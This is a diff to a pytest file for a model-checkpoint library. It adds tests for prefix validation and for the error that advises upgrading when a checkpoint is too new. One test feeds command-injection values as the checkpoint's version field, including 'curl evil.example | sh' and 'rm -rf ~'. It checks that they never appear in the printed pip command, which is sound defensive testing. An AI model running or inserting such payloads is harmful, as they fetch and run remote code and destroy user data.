@@ -804,12 +804,86 @@ def test_a_string_prefix_matches_whole_components():
     assert torch.equal(new[1].weight, old[1].weight)
 
 
-def test_a_newer_format_version_is_refused_naming_the_dlcomp_that_reads_it(tmp_path):
-    path = fake_checkpoint(tmp_path / "c.pt", version=99, dlcomp="7.0.0")
+@pytest.mark.parametrize(
+    ("prefixes", "got"),
+    [
+        ([], "an empty sequence"),
+        ((), "an empty sequence"),
+        ("", "''"),
+        ([""], "''"),
+        (" 0", "' 0'"),
+        ("0 ", "'0 '"),
+        (["0", "2,"], "'2,'"),
+        (".0", "'.0'"),
+        ("0..", "'0..'"),
+        ("0..weight", "'0..weight'"),
+        ("0.*", "'0.*'"),
+    ],
+)
+def test_prefixes_that_are_not_dotted_names_are_refused(prefixes, got):
+    old, new = nn.Sequential(nn.Linear(2, 2)), nn.Sequential(nn.Linear(2, 2))
+    before = {k: v.clone() for k, v in new.state_dict().items()}
     with pytest.raises(
-        CheckpointError,
-        match=r"format version 99, written by dlcomp 7\.0\.0.*dlcomp>=7\.0\.0",
-    ):
+        ValueError, match=r"^load_matching: prefixes must be"
+    ) as refused:
+        load_matching(new, old.state_dict(), prefixes=prefixes)
+    message = str(refused.value)
+    assert "dotted names such as '0', '0.' or 'encoder.layer1'" in message
+    assert message.endswith(f", got {got}"), message
+    assert not isinstance(refused.value, CheckpointError)  # not "shares no name"
+    assert all(torch.equal(v, new.state_dict()[k]) for k, v in before.items())
+
+
+@pytest.mark.parametrize("prefixes", ["0", "0.", ["0.weight"], ("0", "0.bias")])
+def test_dotted_prefixes_are_taken(prefixes):
+    old, new = nn.Sequential(nn.Linear(2, 2)), nn.Sequential(nn.Linear(2, 2))
+    assert load_matching(new, old.state_dict(), prefixes=prefixes).loaded
+    assert torch.equal(new[0].weight, old[0].weight)
+
+
+def test_a_newer_format_version_is_refused_naming_the_dlcomp_that_wrote_it(tmp_path):
+    path = fake_checkpoint(tmp_path / "c.pt", version=99, dlcomp="7.0.0")
+    with pytest.raises(CheckpointError) as refused:
+        load_checkpoint(path, MLP())
+    assert str(refused.value) == (
+        f"{path} has checkpoint format version 99, written by dlcomp 7.0.0; this "
+        "dlcomp reads versions 1 to 2. Upgrade dlcomp to read it: pip install "
+        "--upgrade dlcomp"
+    )
+
+
+@pytest.mark.parametrize(
+    "written_by",
+    [
+        None,  # no dlcomp field: the advice was pip install 'dlcomp>=newer'
+        "1.0'; curl evil.example | sh; echo '",  # was pasted into the command
+        "$(curl evil.example)",
+        "7.0.0\nrm -rf ~",
+        "7.0.0 ",
+        "\u0667.0",  # an Arabic-Indic digit: \d without re.ASCII takes it
+        "1" * 40,
+        7,
+        ["7.0"],
+    ],
+)
+def test_the_version_advice_quotes_nothing_from_the_file(tmp_path, written_by):
+    path = fake_checkpoint(tmp_path / "c.pt", version=99, dlcomp=written_by)
+    with pytest.raises(CheckpointError) as refused:
+        load_checkpoint(path, MLP())
+    message = str(refused.value)
+    assert message.endswith(
+        "written by a newer dlcomp; this dlcomp reads versions 1 to 2. Upgrade "
+        "dlcomp to read it: pip install --upgrade dlcomp"
+    ), message
+    assert "newer'" not in message
+    assert "evil" not in message
+    assert "rm -rf" not in message
+
+
+@pytest.mark.parametrize("written_by", ["2.0", "2.0.1", "10.4.0.1", "3.0rc1", "3.1a2"])
+def test_plain_version_numbers_are_named(tmp_path, written_by):
+    path = fake_checkpoint(tmp_path / "c.pt", version=99, dlcomp=written_by)
+    with pytest.raises(CheckpointError, match=f"written by dlcomp {written_by};"):
         load_checkpoint(path, MLP())
 
 
